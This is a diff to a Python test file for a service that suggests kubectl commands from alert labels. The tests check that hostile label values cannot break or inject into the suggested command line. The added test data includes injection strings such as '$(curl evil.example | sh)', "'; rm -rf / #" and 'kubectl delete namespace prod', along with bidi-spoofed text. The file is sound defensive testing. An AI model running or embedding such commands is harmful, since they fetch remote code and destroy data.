@@ -7,7 +7,7 @@ from datetime import UTC, datetime
 from typing import Any
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from service.matching import loader, templates
@@ -222,13 +222,111 @@ def test_suggestions_shell_quote_every_value() -> None:
     ]
 
 
-@given(value=st.text())
-def test_suggested_command_keeps_any_label_value_as_one_word(value: str) -> None:
+#: what splits, hides or reorders the line a human copies: controls (Cc), separators, bidi controls
+FORBIDDEN = (
+    "\n\r\t\x00\x1b\x0b\x0c\x1c\x7f\x85\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
+)
+#: what an alert may carry in a label value (no NUL, at most 1024 characters: intake refuses the rest)
+HOSTILE_VALUES = st.one_of(
+    st.text(),
+    st.text(alphabet=st.sampled_from([*FORBIDDEN, "'", '"', "`", "$", ";", "|", "&", " ", "a", "#"])),
+    st.lists(
+        st.sampled_from(
+            [
+                "prod",
+                "\n",
+                "kubectl delete namespace prod #",
+                "'; rm -rf / #",
+                "$(curl evil.example | sh)",
+                "`id`",
+                "](javascript:alert(1))",
+                "<http://x|y>",
+                "<!here>",
+                "@channel",
+                "https://evil.example/x",
+                "\u202egnp.exe",
+                "\r\n",
+                "\u2028",
+            ]
+        ),
+        max_size=6,
+    ).map("".join),
+).map(lambda value: value.replace("\x00", "\x01")[: alerts.MAX_LABEL_VALUE_CHARS])  # as intake bounds it
+
+
+def one_line(command: str) -> bool:
+    return not any(char in command for char in FORBIDDEN) and templates.unsafe_character(command) is None
+
+
+@settings(max_examples=100, deadline=None)
+@given(value=HOSTILE_VALUES)
+def test_suggested_command_is_one_line_and_keeps_any_label_value_as_one_word(value: str) -> None:
     rule = loader.parse_rule(RULE)
     ctx = context(namespace="shop", pod=value, pattern="x")
     ctx = templates.with_target(ctx, templates.render_target(rule.target, ctx))
     command = templates.render_suggestions(rule, ctx)[1].command
-    assert shlex.split(command) == ["kubectl", "logs", "-n", "shop", value]
+    assert one_line(command)
+    if templates.unsafe_character(value) is None and len(command) <= templates.COMMAND_LIMIT:
+        assert shlex.split(command) == ["kubectl", "logs", "-n", "shop", value]
+    else:
+        assert command.startswith("# dropped: ")  # a comment: pasting it runs nothing
+
+
+@pytest.mark.parametrize(
+    ("value", "kind"),
+    [
+        ("shop\n' get pods; kubectl delete namespace prod #", "a line break"),
+        ("a\rb", "a line break"),
+        ("a\u2028b", "a line break"),
+        ("a\x85b", "a line break"),
+        ("a\tb", "a control character"),
+        ("a\x01b", "a control character"),
+        ("\x1b[2Kgood", "a control character"),
+        ("\u202eevil", "a bidirectional control character"),
+        ("x\u2066y\u2069", "a bidirectional control character"),
+    ],
+)
+def test_a_value_that_would_break_the_line_drops_the_command_with_a_note(value: str, kind: str) -> None:
+    rule = loader.parse_rule(RULE)
+    ctx = templates.with_target(context(namespace="shop", pod=value, pattern="x"), _target("shop"))
+    suggested = templates.render_suggestions(rule, ctx)
+    assert suggested[1].command == f"# dropped: a value holds {kind} (labels.pod)"
+    assert suggested[0].command == "kubectl rollout restart deployment/coordinator -n shop"  # the others stay
+
+
+def test_a_value_changed_by_the_template_is_still_traced_to_its_label() -> None:
+    rule = loader.parse_rule(RULE.replace("{{ labels.pod }}", "{{ labels.pod ~ '-0' }}"))
+    ctx = templates.with_target(context(namespace="shop", pod="a\nb", pattern="x"), _target("shop"))
+    assert templates.render_suggestions(rule, ctx)[1].command == (
+        "# dropped: a value holds a line break (labels.pod)"
+    )
+
+
+def test_a_line_break_in_the_rule_itself_drops_the_command() -> None:
+    rule = loader.parse_rule(
+        RULE.replace("- command: kubectl logs", '- command: "echo 1\\nkubectl logs').replace(
+            "{{ labels.pod }}\n", '{{ labels.pod }}"\n', 1
+        )
+    )
+    ctx = templates.with_target(context(namespace="shop", pod="p", pattern="x"), _target("shop"))
+    assert templates.render_suggestions(rule, ctx)[1].command == "# dropped: the command holds a line break"
+
+
+def test_a_command_longer_than_the_limit_is_dropped_not_cut() -> None:
+    rule = loader.parse_rule(RULE)
+    ctx = templates.with_target(context(namespace="shop", pod="p" * 1000, pattern="x"), _target("shop"))
+    command = templates.render_suggestions(rule, ctx)[1].command
+    assert command == "# dropped: the command has 1021 characters, more than the 1000 shown"
+
+
+def test_an_error_that_quotes_a_value_does_not_repeat_it() -> None:
+    rule = loader.parse_rule(RULE.replace("{{ labels.pod }}", "{{ labels[annotations.summary] }}"))
+    alert = make_alert(namespace="shop").model_copy(
+        update={"annotations": {"summary": "x\nkubectl delete namespace prod"}}
+    )
+    ctx = templates.with_target(templates.alert_context(alert, rule), _target("shop"))
+    command = templates.render_suggestions(rule, ctx)[1].command
+    assert command == "# could not render: 'dict object' has no attribute '…'"
 
 
 def test_a_suggestion_that_fails_to_render_becomes_a_comment() -> None:
